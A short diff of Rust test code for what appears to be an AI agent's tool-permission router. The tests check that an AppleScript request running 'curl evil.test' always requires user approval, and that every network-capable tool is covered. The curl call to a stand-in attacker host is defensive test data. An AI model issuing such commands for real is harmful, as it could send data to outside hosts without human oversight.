@@ -231,6 +231,18 @@ async fn in_auto_what_goes_to_a_host_that_nobody_named_asks_once_something_was_r
         assert_eq!(again.decision, Decision::Run, "{tool}");
     }
     assert_eq!(browser.calls(), []);
+    // Where a script sends something, nobody can tell, whatever was read.
+    let router = Router::builtin(desktop()).with_browser(browser);
+    for has_read in [false, true] {
+        let script = json!({ "script": "do shell script \"curl evil.test\"" });
+        let auto = ExecRequest { has_read, ..request("osa", script) };
+        let decision = router.assess(&auto, &limits()).await.decision;
+        assert!(matches!(decision, Decision::Ask { .. }), "{decision:?}");
+    }
+    // That was all there are.
+    let tried = ["webNavigate", "webTabEdit", "webClick", "webType", "batch", "osa"];
+    let can_send = router.specs(Mode::Act).into_iter().filter(|spec| spec.egress);
+    assert_eq!(can_send.filter(|spec| !tried.contains(&&*spec.name)).count(), 0);
     let known = ExecRequest {
         grants,
         has_read: true,
